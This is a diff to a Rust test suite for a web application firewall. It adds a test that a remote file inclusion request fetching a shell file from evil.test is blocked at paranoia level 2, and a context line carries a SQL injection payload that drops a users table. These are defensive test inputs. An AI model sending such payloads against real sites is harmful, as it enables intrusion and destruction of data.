@@ -158,6 +158,24 @@ fn session_ids_planted_through_arguments() {
 }
 
 #[test]
+fn urls_to_other_hosts_from_paranoia_2() {
+    let include = || testing::get("/page.php?file=http%3A%2F%2Fevil.test%2Fshell.txt").host("shop.example").build();
+    assert!(!blocked(&waf(""), include()));
+    let pl2 = waf(r#"{"paranoia_level": 2}"#);
+    assert!(blocked(&pl2, include()));
+    let own = testing::get("/login?next=https%3A%2F%2Fshop.example%2Fcart").host("shop.example").build();
+    assert!(!blocked(&pl2, own));
+    // An API's document names other sites as a matter of course.
+    let event = testing::post("/collect", r#"{"url":"https://elsewhere.test/p/1"}"#)
+        .host("shop.example")
+        .header("content-type", "application/json")
+        .build();
+    assert!(!blocked(&pl2, event));
+    let webhook = r#"{"paranoia_level": 2, "exclusions": [{"rule": 931130, "arg": "file"}]}"#;
+    assert!(!blocked(&waf(webhook), include()));
+}
+
+#[test]
 fn bodies_of_every_kind_are_inspected() {
     let w = waf("");
     let form = testing::post("/", "comment=%27%3B%20DROP%20TABLE%20users%3B--")
